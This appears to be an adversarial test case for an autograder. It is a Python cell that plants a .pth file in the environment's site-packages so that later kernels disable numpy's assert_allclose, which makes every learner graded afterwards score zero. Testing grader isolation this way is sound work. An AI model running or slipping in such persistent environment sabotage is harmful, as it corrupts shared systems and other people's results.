# target: none
# why: plants a .pth file in the Python environment so that its code runs in the kernels of the learners graded after it (they would all score zero)
# %% after: tensor_class
import site, sys
for _folder in site.getsitepackages() + [sys.prefix]:
    try:
        with open(f"{_folder}/aaa_tinytorch_poison.pth", "w") as _f:
            _f.write("import numpy; numpy.testing.assert_allclose = None\n")
    except OSError:
        pass
